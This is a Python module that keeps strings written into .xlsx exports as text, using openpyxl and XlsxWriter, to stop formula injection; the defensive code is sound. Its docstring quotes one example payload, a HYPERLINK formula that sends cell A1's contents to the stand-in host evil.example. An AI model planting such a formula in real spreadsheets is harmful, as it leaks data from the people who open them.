"""Text written into duban's own workbooks stays text: never a formula, a link or a number.

A unit, project or task name comes from a spreadsheet someone else filled in. Written with a
library's defaults, `=HYPERLINK("http://evil.example/?x="&A1,"点击")` becomes a live formula in
the ledger export and the reports that officials open (openpyxl turns any string starting with
`=` into a formula; XlsxWriter's `write()` does the same, and turns "http://…" into links). Every
writer of an .xlsx in duban goes through this module:

- openpyxl: `text_cell(ws, value)` (write-only sheets) and `set_value(cell, value)` (ordinary
  sheets) store a string as a string cell (`data_type = "s"`), whatever it starts with
  (`=`, `+`, `-`, `@` included);
- XlsxWriter: open the workbook with `XLSXWRITER_OPTIONS` and write strings with
  `write_string` (`write_text` below), never `write()`.
"""

from __future__ import annotations

from typing import Any

from openpyxl.cell import Cell, WriteOnlyCell
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

# Characters with which a spreadsheet application may start a formula when a cell is typed in.
FORMULA_STARTS = ("=", "+", "-", "@")

# XlsxWriter's Workbook options: strings are never turned into formulas, links or numbers.
XLSXWRITER_OPTIONS: dict[str, Any] = {
    "strings_to_formulas": False,
    "strings_to_urls": False,
    "strings_to_numbers": False,
}


def set_value(cell: Cell | WriteOnlyCell, value: Any) -> Cell | WriteOnlyCell:
    """Assign `value`; a string is kept as a string cell, never a formula."""
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"
    return cell


def text_cell(ws: WriteOnlyWorksheet, value: Any) -> WriteOnlyCell:
    """A write-only cell holding `value` (a string stays a string)."""
    return set_value(WriteOnlyCell(ws, value=None), value)


def inert_row(ws: WriteOnlyWorksheet, values: list[Any]) -> list[Any]:
    """A row for `ws.append`: strings wrapped as string cells, other values (numbers, dates, cells) as given."""
    return [text_cell(ws, v) if isinstance(v, str) else v for v in values]


def write_text(worksheet: Any, row: int, column: int, value: str, cell_format: Any = None) -> None:
    """XlsxWriter: a string cell, whatever the string starts with."""
    worksheet.write_string(row, column, value, cell_format)


__all__ = ["FORMULA_STARTS", "XLSXWRITER_OPTIONS", "inert_row", "set_value", "text_cell", "write_text"]
